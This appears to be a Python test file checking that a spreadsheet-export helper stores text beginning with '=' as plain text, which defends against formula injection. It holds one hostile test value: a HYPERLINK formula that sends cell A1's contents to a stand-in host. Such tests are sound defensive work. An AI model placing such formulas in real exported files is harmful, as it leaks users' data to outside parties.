"""Excel exports hold no formula: text that starts with “=” stays text (no formula injection)."""

from __future__ import annotations

import io

from openpyxl import Workbook, load_workbook

from citydesk.lib.xlsx import workbook_bytes

TYPED = '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")'


def test_text_starting_with_an_equals_sign_is_written_as_text():
    book = Workbook()
    book.active.append(["Tên", TYPED, 12, "= 1 + 1"])
    book.create_sheet("Khác").append([TYPED])
    read = load_workbook(io.BytesIO(workbook_bytes(book)))
    cells = [cell for sheet in read.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.value for c in cells] == ["Tên", TYPED, 12, "= 1 + 1", TYPED]
    assert [c.data_type for c in cells] == ["s", "s", "n", "s", "s"]


def test_openpyxl_alone_would_have_written_a_formula():
    """What the helper guards against: the library's own rule, so this test notices if it changes."""
    book = Workbook()
    book.active.append([TYPED])
    out = io.BytesIO()
    book.save(out)
    assert load_workbook(out).active["A1"].data_type == "f"
